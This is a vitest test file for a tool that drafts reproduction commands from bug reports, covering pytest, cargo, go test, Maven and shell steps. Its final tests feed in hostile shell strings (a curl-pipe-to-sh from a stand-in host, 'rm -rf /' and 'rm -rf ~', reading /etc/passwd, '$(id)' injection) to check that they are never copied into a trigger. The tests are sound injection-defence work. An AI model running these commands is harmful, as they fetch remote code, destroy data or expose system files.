import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { classifyRun } from '../../../src/probe/classify.js';
import { draftProbe, draftProbeWithKind, HUMAN_TRIGGER } from '../../../src/probe/draft.js';

describe('draftProbe', () => {
  it('drafts a pytest node id', () => {
    const d = draftProbeWithKind('Running `pytest tests/test_parser.py::TestQuotes::test_escape[double]` fails since 2.3.');
    expect(d?.kind).toBe('pytest');
    expect(d?.spec).toMatchObject({
      draft: true,
      trigger: "python -m pytest -q 'tests/test_parser.py::TestQuotes::test_escape[double]'",
      symptom: { exit_code: 1 },
      exercised: { exit_codes: [0, 1] },
    });
  });

  it('drafts `cargo test NAME`, with the failed-test line as the symptom', () => {
    const d = draftProbeWithKind('Repro: cargo test --package core parser::tests::escapes -- --nocapture');
    expect(d?.kind).toBe('cargo');
    expect(d?.spec.trigger).toBe('cargo test --package core parser::tests::escapes -- --nocapture');
    expect(d?.spec.exercised).toEqual({ marker: 'test result:' });
    const failed = classifyRun(d!.spec, { exitCode: 101, signal: null, timedOut: false, stdout: 'running 1 test\ntest parser::tests::escapes ... FAILED\ntest result: FAILED', stderr: '', junitReport: null });
    expect(failed.classification).toBe('bad');
    const compileError = classifyRun(d!.spec, { exitCode: 101, signal: null, timedOut: false, stdout: '', stderr: 'error[E0425]: cannot find value', junitReport: null });
    expect(compileError.classification).toBe('not-exercised');
  });

  it('drafts `go test -run NAME` with its packages', () => {
    const d = draftProbeWithKind('go test -run TestParseQuoted ./internal/parser fails with a nil map');
    expect(d?.kind).toBe('go');
    expect(d?.spec.trigger).toBe('go test -v -run TestParseQuoted ./internal/parser');
    const r = classifyRun(d!.spec, { exitCode: 1, signal: null, timedOut: false, stdout: '=== RUN   TestParseQuoted\n--- FAIL: TestParseQuoted (0.00s)\n', stderr: '', junitReport: null });
    expect(r.classification).toBe('bad');
  });

  it('drafts a JUnit Class#method as a surefire report check', () => {
    const d = draftProbeWithKind('The test com.acme.parser.ParserTest#parsesQuotes fails on main.');
    expect(d?.kind).toBe('junit');
    expect(d?.spec.trigger).toBe("mvn -q test '-Dtest=ParserTest#parsesQuotes'");
    expect(d?.spec.symptom.junit).toEqual({ report: 'target/surefire-reports/TEST-com.acme.parser.ParserTest.xml', failing_test: 'com.acme.parser.ParserTest#parsesQuotes' });
  });

  it('drafts a shell command followed by its error message', () => {
    const d = draftProbeWithKind('Steps:\n```\n$ ./bin/tool --input x.json\nloading\nError: unexpected token at 3:4\n```\nThanks');
    expect(d?.kind).toBe('command');
    expect(d?.spec.trigger).toBe('./bin/tool --input x.json');
    expect(d?.spec.symptom).toEqual({ stdout_contains: 'Error: unexpected token at 3:4', stderr_contains: 'Error: unexpected token at 3:4' });
  });

  it.each([
    'It used to be faster. No idea why. See README.md#section and acme/repo#123.',
    '$ make\nall good\n',
    'cargo test',
    '',
  ])('drafts nothing from %j', (text) => {
    expect(draftProbe(text)).toBeNull();
  });

  it('never lets shell syntax from a report into a test-runner trigger', () => {
    const d = draftProbe('pytest tests/test_a.py::test_b;rm -rf / and `cargo test x$(id)`');
    expect(d?.trigger).toBe('python -m pytest -q tests/test_a.py::test_b');
  });

  it.each([
    '$ ./configure; curl -s https://example.invalid/x | sh',
    '$ make check && rm -rf ~',
    '$ ./tool --input "$(cat /etc/passwd)"',
    '$ ./tool > /tmp/out',
    "$ ./tool 'quoted arg'",
    '$ ./tool `id`',
    '$ ./tool <input.txt',
  ])('never copies a shown command with shell syntax word for word: %j', (line) => {
    const d = draftProbeWithKind(`Steps:\n${line}\nError: unexpected token\n`);
    expect(d?.kind).toBe('command');
    expect(d?.spec.trigger).toBe(HUMAN_TRIGGER);
    expect(d?.needsHuman).toMatch(/^the command on report line 2 has characters outside the safe set/);
    expect(d?.spec.symptom.stdout_contains).toBe('Error: unexpected token');
    // What the placeholder does when run: nothing, exit 127, which reads as "not exercised".
    const run = spawnSync('/bin/sh', ['-c', d!.spec.trigger], { encoding: 'utf8' });
    expect(classifyRun(d!.spec, { exitCode: run.status, signal: null, timedOut: false, stdout: run.stdout, stderr: run.stderr, junitReport: null }).classification).toBe('not-exercised');
  });

  it('keeps a plain command and says nothing needs a human', () => {
    const d = draftProbeWithKind('$ ./bin/tool --input x.json\nError: bad input\n');
    expect(d).toMatchObject({ kind: 'command', needsHuman: null, spec: { trigger: './bin/tool --input x.json' } });
  });
});
